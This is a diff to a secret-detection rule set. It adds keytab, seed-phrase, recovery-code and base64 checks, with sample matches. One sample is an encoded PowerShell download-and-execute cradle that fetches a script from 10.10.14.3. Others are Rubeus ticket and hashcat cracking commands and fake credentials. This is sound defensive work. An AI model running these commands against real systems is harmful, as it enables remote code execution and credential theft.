@@ -1187,6 +1187,23 @@ def _base64_text(blob: str) -> Optional[str]:
     return None if _regex(r"[\x00-\x08\x0e-\x1f\x7f]").search(decoded) else decoded
 
 
+def _is_base64_of_data(token: str) -> bool:
+    """Base64 of a text that names no credential (a config, a message) or of a file's first bytes
+    (_FILE_MAGIC): data, not a key or a token."""
+    import binascii
+    decoded = _base64_text(token)
+    if decoded is not None:
+        return not _regex(_CREDENTIAL_WORDS).search(decoded)
+    try:
+        data = binascii.a2b_base64(token + "=" * (-len(token) % 4))
+    except (binascii.Error, ValueError):
+        return False
+    if len(data) >= 8 and data[1::2].count(0) * 10 >= len(data) // 2 * 9:  # UTF-16: PowerShell's -EncodedCommand
+        text = data.decode("utf-16-le", "replace")
+        return not _regex(r"[\x00-\x08\x0e-\x1f\x7f\ufffd]").search(text) and not _regex(_CREDENTIAL_WORDS).search(text)
+    return data.startswith(_FILE_MAGIC)
+
+
 def _is_base64_of_plain_json(token: str) -> bool:
     """`eyJzaGlwbWVudCI6…` (base64 of `{"`, no dot: no JWT) that decodes to a JSON object naming no
     credential: a JWT's header, a message's data, not a secret."""
@@ -1487,9 +1504,14 @@ def _accept_flag(match: Any) -> bool:
 
 
 def _accept_short_flag_random(match: Any) -> bool:
-    """A short flag's value (short-flag-random-value) that a machine made and not in hex alone (a
-    commit, a digest, an id), no reference, no masked or public value, no path or version."""
+    """A short flag's value (short-flag-random-value: a password's or a key's flag, or any one
+    letter's with 64 characters or more, an installer's site token) that a machine made and not in
+    hex alone (a commit, a digest, an id), no reference, no masked or public value, no path or version."""
     value = match.group("s").strip("\"'")
+    flag = match.string[match.start() + 1:match.start("s")].strip()
+    if not _regex(r"[A-Za-z]?[pk]|K|a|w|pw|pwd|pass").fullmatch(flag) and (
+            _is_base64_of_data(value) or _regex(r"[1-9A-HJ-NP-Za-km-z]{86,88}").fullmatch(value)):
+        return False  # any letter's long value: not data in base64 (`powershell -e <command>`, an image), not a signature in base58 (Solana's)
     return looks_machine_generated(value) and not _regex(_HEX_ONLY).fullmatch(value) and not _is_reference(
         value) and not _is_masked_or_public(value) and not _is_path_or_version(value) and "=" not in value.rstrip("=")
 
@@ -4055,6 +4077,10 @@ cached-domain-logon-hash     -                      \$DCC2\$\d{1,6}#[^#\s]{1,64}
 netntlmv2-response           -                      (?<![\w.\-])[\w.\-$]{1,64}::[\w.\-]{1,64}:[0-9a-fA-F]{16}:(?P<s>[0-9a-fA-F]{32}:[0-9a-fA-F]{64,2048})(?![0-9a-fA-F])
 #   catch: [SMB] NTLMv2-SSP Hash     : p.garcia::CORP:ff030d6605113d18:«5a2c0e162248066d45f59da2fa4bc418:0101000000000000c0653150de09d20126f2a09dbd3d58bc0000000002000800»
 #   keep:  hashcat -m 5600 hashes.txt rockyou.txt   # user::domain:challenge:response:blob
+# A Kerberos keytab in base64 (its first bytes, 0x0502, read `BQI`): a service's long-term keys.
+kerberos-keytab-base64       -                      (?<![A-Za-z0-9+/])(?P<s>BQIAAA[A-Za-z0-9+/]{60,}={0,2})(?![A-Za-z0-9+/=])
+#   catch: # keytab for HTTP/intranet, base64 so it survives the ticket system\n«BQIAAABLAAIAC0NPUlAuRVhBTVBMRQAESFRUUBFKOZ2buwkG+Z4AK/q0suOXzQ73remCb+3mIddY33grpcCWRLtlCMx3jRtqVCV9uw==»
+#   keep:  a keytab in base64 starts BQIAAA (0x0502): store it in Vault, not in the ticket
 kerberos-ticket-base64       -                      (?<![A-Za-z0-9+/])(?P<s>doI[A-Za-z0-9+/]{100,}={0,2})(?![A-Za-z0-9+/=])
 #   catch: [*] base64(ticket.kirbi):\n\n      «doIFujCCBbagAwIBBaEDAgEWooIEszCCBK9hggSrMIIEp6ADAgEFoRIbEENPUlAuQ09OVE9TTy5DFQk2j7HQPDhrM0tAC7wWB+o8PLIh4fy3XMMHcAVdlpiITGFMexnENL0xzmEZfIZ9obRM1SDFBYMDeh5XaV8vUKMKN»
 #   keep:  Rubeus.exe asktgt /user:svc_mssql /rc4:$HASH /ptt
@@ -4450,7 +4476,8 @@ json-web-key-private         json-web-key           (?<![\w"'])["']?(?:d|p|q|dp|
 #   keep:  {"kty": "EC", "crv": "P-256", "x": "f83OJ3D2xF1Bg8vub9tLe1gHMzV76e8Tus9uPHvRVEU", "y": "x_FEzRu9m36HLN_tue659LNpXW6pCyStikYjKIWI5a0"}
 #   catch: "dp": "«sqpyChOLBSaqYLEjsPNlT9ztNM5LjOB4T7glftJROev2WriWs61zI6j5ciKu3GBCf9Hx»",
 # A wallet's mnemonic: 12 to 24 lowercase words after a word that names one (in several languages).
-seed-phrase                  mnemonic               (?i)(?:mnemonic|seed|wallet|carteira|cartera|portefeuille|portafoglio|кошел\w*|гаманц\w*|from_?phrase|\b(?:12|15|18|21|24)[ \-]words\b|(?:recovery|backup|secret|seed)[ _\-]?(?:phrase|words)|bip-?39|phrase de r[ée]cup[ée]ration|frase (?:de )?(?:recupera[çc][ãa]o|semilla|semente|recuperaci[óo]n)|semilla|wiederherstellungsphrase|助记词|ニーモニック|복구 구문|мнемони\w*|العبارة السرية)[^\n]{0,160}?(?:\r?\n[^\n]{0,40}?)?(?:\r?\n[ \t]*)?(?P<s>(?-i:(?<![a-z])[a-z]{3,8}(?:[ \t]+[a-z]{3,8}){11,23}(?:[ \t]*\r?\n[ \t]*(?:\d{1,2}[-–]\d{1,2}[ \t]*[:.)]?[ \t]*)?[a-z]{3,8}(?:[ \t]+[a-z]{3,8}){11,23})?)(?![a-z]))
+seed-phrase                  mnemonic               (?i)(?:mnemonic|seed|wallet|carteira|cartera|portefeuille|portafoglio|кошел\w*|гаманц\w*|from_?phrase|\b(?:12|15|18|21|24)[ \-]words\b|(?:recovery|backup|secret|seed)[ _\-]?(?:phrase|words)|bip-?39|phrase de r[ée]cup[ée]ration|frase (?:de )?(?:recupera[çc][ãa]o|semilla|semente|recuperaci[óo]n)|semilla|wiederherstellungsphrase|återställningsfras\w*|herstelzin|frase di recupero|fraza odzyskiwania|kurtarma ifadesi|plånbok\w*|助记词|ニーモニック|복구 구문|мнемони\w*|العبارة السرية)[^\n]{0,160}?(?:\r?\n[^\n]{0,40}?)?(?:\r?\n[ \t]*)?(?P<s>(?-i:(?<![a-z])[a-z]{3,8}(?:[ \t]+[a-z]{3,8}){11,23}(?:[ \t]*\r?\n[ \t]*(?:\d{1,2}[-–]\d{1,2}[ \t]*[:.)]?[ \t]*)?[a-z]{3,8}(?:[ \t]+[a-z]{3,8}){11,23})?)(?![a-z]))
+#   catch: Klienten vill att vi förvarar återställningsfrasen i kassaskåpet:\n«abandon ladder velvet timber orbit candle meadow frost pilot unveil saddle harbor»
 #   catch: Cold wallet backup (treasury multisig signer #2) — copied from the paper backup before shredding:\n«ahead brass crew act aspect axis actor boss aim bitter armor cabin april any behind buffalo cash clinic barrel crack assist brief admit build»
 #   catch: MNEMONIC="«abandon ability able about above absent absorb abstract absurd abuse access accident»"
 #   catch: phrase de récupération : «destroy dial budget census clarify enjoy cheese board arrive butter erase economy»
@@ -4778,11 +4805,13 @@ netrc-password               not-reference          \bmachine\s+\S+(?:\s+(?:logi
 # A password's or a key's short flag (`-p`, `-k`, `-ap`, `-a`, `-w`, `-pw`) in any command, when its value, quoted
 # or bare, is one a machine made; never hex alone (a commit, a digest): a flag that may be a port, a path, a
 # page is a password's only with a random value.
-short-flag-random-value      short-flag-random      -(?<![\w\-]-)(?:[A-Za-z]?[pk]|K|a|w|pw|pwd|pass)[ \t]+(?P<s>'[^'\s]{10,200}'|"[^"\s]{10,200}"|[^\s'"|;&<>()`]{10,200})(?=[\s;|&)]|$)
+short-flag-random-value      short-flag-random      -(?<![\w\-]-)(?:(?:[A-Za-z]?[pk]|K|a|w|pw|pwd|pass)[ \t]+|[A-Za-z][ \t]+(?=["']?[^\s'"|;&<>()`]{64}))(?P<s>'[^'\s]{10,4096}'|"[^"\s]{10,4096}"|[^\s'"|;&<>()`]{10,4096})(?=[\s;|&)]|$)
 #   catch: sipp -sf uac_register.xml -s 7001 -au 7001 -ap '«ysM09VlC72uebd46ZqU»' -i 10.9.0.15 -m 1
 #   catch: fs_cli -H 127.0.0.1 -P 8021 -p '«CjoyXJz2UYYYrg2HPA36QvSzJ»' -x "sofia status gateway carrier_a"
 #   catch: tacacs_client -H 10.0.9.20 -k «wAfGrhmetd05EgCAMLlBjvH3bHX» -u dkozlov authenticate
+#   catch: .\SentinelOneInstaller_windows_64bit.exe -t "«eyJ1cmwiOiAiaHR0cHM6Ly91c2VhMS5zZW50aW5lbG9uZS5uZXQiLCAic2l0ZV9rZXkiOiAiZzE5ZDQ1N2Q4NzlhIn0Qz7vXk2mPq9LwRt»" -q
 #   keep:  git show -p 9fceb02d0ae598e95dc970b74767f19372d61af8
+#   keep:  powershell -nop -w hidden -e SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAiAGgAdAB0AHAAOgAvAC8AMQAwAC4AMQAwAC4AMQA0AC4AMwAvAHIAdQBuAC4AcABzADEAIgApAA==
 #   keep:  minisign -Vm app.tar.gz -P RWQb5DrdfX51JjXEfZopF4p7NqxWiF6tMvafFTeU5Yk
 #   keep:  docker run -v /srv/data:/data -e TZ=Europe/Lisbon -p 8080:80 nginx:1.27-alpine
 #   keep:  kubectl logs -n payments-prod -l app=ledger-api -c ledger-api --since=10m
@@ -6372,7 +6401,8 @@ context-numbered-parts       numbered-parts         1(?:(?<=[^\W\d_]1)|(?<=[^\W\
 #   catch: Anh gửi key làm 2 phần cho an toàn nha:\nphần 1: «AIzaSyOa2BZB9sryd»\nphần 2: «f2tBx5e7vpZ0kvsoLgyslg»\nghép lại là xài được
 #   keep:  the token refresh takes two steps:\nstep 1: npm install\nstep 2: npm test
 # Recovery or backup codes, one per line after the words that name them (GitHub, Google, 2FA).
-context-recovery-codes       code-lines             (?i)(?:recovery|backup|2fa|one-time)[ \t_\-]+codes?[^\n]{0,80}\n(?=(?P<s>(?:[ \t]*(?:[-*•]|\d{1,2}[.)])?[ \t]*[A-Za-z0-9]{4,12}(?:-[A-Za-z0-9]{4,12}){0,3}(?:[ \t]{1,8}[A-Za-z0-9]{4,12}(?:-[A-Za-z0-9]{4,12}){1,3}){0,3}[ \t]*(?:\r?\n|$)){1,24}))
+context-recovery-codes       code-lines             (?i)(?:(?:recovery|backup|2fa|one-time)[ \t_\-]+codes?|återställningskoder|reservkoder|wiederherstellungscodes|sicherungscodes|backup-codes|herstelcodes|codes[ \t]+de[ \t]+(?:récupération|secours)|códigos[ \t]+de[ \t]+(?:recuperación|recuperação|respaldo)|codici[ \t]+di[ \t]+(?:recupero|backup)|kody[ \t]+(?:zapasowe|odzyskiwania)|kurtarma[ \t]+kodları|yedek[ \t]+kodlar|резервные[ \t]+коды|коды[ \t]+восстановления|リカバリーコード|バックアップコード|恢复码|备用码|복구[ \t]?코드|백업[ \t]?코드)[^\n]{0,80}\n(?=(?P<s>(?:[ \t]*(?:[-*•]|\d{1,2}[.)])?[ \t]*[A-Za-z0-9]{4,12}(?:-[A-Za-z0-9]{4,12}){0,3}(?:[ \t]{1,8}[A-Za-z0-9]{4,12}(?:-[A-Za-z0-9]{4,12}){0,3}){0,3}[ \t]*(?:\r?\n|$)){1,24}))
+#   catch: Återställningskoder för breakglass02 (Duo), i kassaskåpet:\n  «40917263»  «88120574»\n  «31609852»  «75243190»
 #   catch: GitHub recovery codes for the bot account (keep safe):\n«743vj-qaf1p»\n«q9v44-r8tmz»\n«h8img-t0u3d»\n«tycpz-rndyk»
 #   keep:  Recovery codes are shown once; store them in the vault.\nSee the runbook.
 #   catch: $ cat ~/Downloads/github-recovery-codes.txt\n«286ee-d24f4»\n«71c5b-15fb5»\n«25e9a-fb904»
@@ -7964,6 +7994,7 @@ RULE_WORDS = {
         "rc4_hmac"), ("aes128", "aes256", "des_cbc_md5", "hash", "lm", "nthash", "ntlm-", "rc4_hmac"), (":",)),
     "cached-domain-logon-hash": ("b5e6feb8", ("$dcc2$",), ("$dcc2$",), ("#",)),
     "netntlmv2-response": ("f0b12c16", ("::",), (), ()),
+    "kerberos-keytab-base64": ("4278a618", ("bqiaaa",), ("bqiaaa",), ()),
     "kerberos-ticket-base64": ("7c554fb5", ("doi",), ("doi",), ()),
     "lsa-secret-text": ("33e2a8de", ("/text",), (), ("cur", "old")),
     "lsa-secret-account-line": ("e5e5b27f", ("_sc_", "defaultpassword"), ("[*]",), ("[*]",)),
@@ -8102,11 +8133,13 @@ RULE_WORDS = {
     "java-keystore-base64": ("b608bd99", ("/u3+7q", "zs7ozg"), ("/u3+7q", "zs7ozg"), ()),
     "putty-private-lines": ("30a5c364", ("private-lines:",), ("private-lines:",), ("\n",)),
     "json-web-key-private": ("e8e28a36", ("d", "dp", "dq", "k", "p", "q", "qi"), (), (":",)),
-    "seed-phrase": ("e2d27d36", ("bip", "carteira", "cartera", "mnemonic", "phrase", "phrase de r", "portafoglio",
-        "portefeuille", "recupera", "recuperaci", "seed", "semente", "semilla", "wallet", "wiederherstellungsphrase",
-        "words", "гаманц", "кошел", "мнемони", "العبارة السرية", "ニーモニック", "助记词", "복구 구문"), ("12", "15", "18", "21",
-        "24", "backup", "bip", "carteira", "cartera", "frase ", "from", "mnemonic", "phrase de r", "portafoglio",
-        "portefeuille", "recovery", "secret", "seed", "semilla", "wallet", "wiederherstellungsphrase", "гаманц",
+    "seed-phrase": ("94788649", ("bip", "carteira", "cartera", "frase di recupero", "fraza odzyskiwania", "herstelzin",
+        "kurtarma ifadesi", "mnemonic", "phrase", "phrase de r", "plånbok", "portafoglio", "portefeuille", "recupera",
+        "recuperaci", "seed", "semente", "semilla", "wallet", "wiederherstellungsphrase", "words",
+        "återställningsfras", "гаманц", "кошел", "мнемони", "العبارة السرية", "ニーモニック", "助记词", "복구 구문"), ("12", "15",
+        "18", "21", "24", "backup", "bip", "carteira", "cartera", "frase ", "frase di recupero", "fraza odzyskiwania",
+        "from", "herstelzin", "kurtarma ifadesi", "mnemonic", "phrase de r", "plånbok", "portafoglio", "portefeuille",
+        "recovery", "secret", "seed", "semilla", "wallet", "wiederherstellungsphrase", "återställningsfras", "гаманц",
         "кошел", "мнемони", "العبارة السرية", "ニーモニック", "助记词", "복구 구문"), ()),
     "byte-array-key": ("e27199d4", (",",), (), ()),
     "hex-private-key": ("d4b3d37b", ("accounts", "deployer", "owner", "priv", "private", "secret", "signer", "signing",
@@ -8198,7 +8231,7 @@ RULE_WORDS = {
     "gh-secret-body": ("70e96687", ("secret",), ("gh",), ("set",)),
     'powershell-secure-string': ('dc0cf1dd', ('convertto-securestring',), ('convertto-securestring',), ('"', "'")),
     "netrc-password": ("9192685f", ("password",), ("machine",), ("machine",)),
-    "short-flag-random-value": ("39bc17bc", ("-",), (), ()),
+    "short-flag-random-value": ("fbfd784e", ("-",), (), ()),
     "net-user-password": ("2f34f48a", ("user",), ("net",), ("net",)),
     "net-use-password": ("ebdbd4e5", ("net",), ("net",), ("use",)),
     "net-use-user-password": ("56abdf0a", ("net",), ("net",), ("use",)),
@@ -8387,7 +8420,7 @@ RULE_WORDS = {
     "haproxy-insecure-password": ("a19bb827", ("insecure-password",), ("user",), ("user",)),
     "adb-wifi-network": ("276631d3", ("connect-network",), ("connect-network",), ("ep", "pa2", "pa3")),
     "key-value-attributes": ("3379088f", ("value",), (), ("key", "name")),
-    "typed-assignment": ("ed6348d4", ("auth", "community", "cookie", "cred", "dsn", "encrypt", "key", "pass", "pat",
+    "typed-assignment": ("6f24ced5", ("auth", "community", "cookie", "cred", "dsn", "encrypt", "key", "pass", "pat",
         "pepper", "pin", "private", "psk", "pw", "pwd", "salt", "secret", "seed", "session", "token"), (), (":",)),
     "secret-flag": ("f961087a", ("auth", "community", "cookie", "cred", "dsn", "encrypt", "key", "pass", "pat",
         "pepper", "pin", "private", "psk", "pw", "pwd", "salt", "secret", "seed", "session", "token"), (), ("-",)),
@@ -8519,7 +8552,7 @@ RULE_WORDS = {
     "context-auth-message": ("e5915dc5", ("auth", "authenticate", "authorize", "log_in", "login", "logon", "sign_in",
         "signin"), ("action", "cmd", "command", "event", "method", "op", "type"), ("action", "cmd", "command", "event",
         "method", "op", "type")),
-    "context-cookie": ("56f2da40", ("--cookie", "-b", "cookie", "set-cookie"), ("--cookie", "-b", "cookie",
+    "context-cookie": ("27b78b8a", ("--cookie", "-b", "cookie", "set-cookie"), ("--cookie", "-b", "cookie",
         "set-cookie"), ()),
     "context-cookie-rows": ("6b7b6395", ("/cookies", "application", "cookie", "cookies", "domain"), (), ("\n",)),
     "context-cookie-lines": ("952563c6", ("cookie",), ("cookie",), (":",)),
@@ -8584,8 +8617,13 @@ RULE_WORDS = {
         "ครึ่ง", "两段", "分两段", "分割", "前半", "后半段", "後半", "第一段", "第三段", "第二段", "두 개로", "두 번에", "두개로", "두번에", "뒷부분",
         "앞부분"), ()),
     "context-numbered-parts": ("c0bab272", ("1",), (), ("\n",)),
-    "context-recovery-codes": ("c3ab3225", ("code",), ("2fa", "backup", "one-time", "recovery"), ("2fa", "backup",
-        "one-time", "recovery")),
+    "context-recovery-codes": ("89314d0e", ("backup-codes", "code", "codici", "herstelcodes", "kodlar", "kurtarma",
+        "odzyskiwania", "recuperación", "recuperação", "reservkoder", "respaldo", "récupération", "secours",
+        "sicherungscodes", "wiederherstellungscodes", "zapasowe", "återställningskoder", "восстановления", "резервные",
+        "バックアップコード", "リカバリーコード", "备用码", "恢复码", "백업", "복구"), ("2fa", "backup", "backup-codes", "codes", "codici",
+        "códigos", "herstelcodes", "kody", "kurtarma", "one-time", "recovery", "reservkoder", "sicherungscodes",
+        "wiederherstellungscodes", "yedek", "återställningskoder", "коды", "резервные", "バックアップコード", "リカバリーコード", "备用码",
+        "恢复码", "백업", "복구"), ("\n",)),
     'filezilla-password': ('42235a11', ('encoding="base64"',), ('<pass',), ('</pass>',)),
     "netscape-cookie-jar": ("46acd332", ("\tfalse", "\ttrue"), (), ()),
     "devtools-cookie-table": ("7da4deb0", ("\t/",), (), ("\n",)),
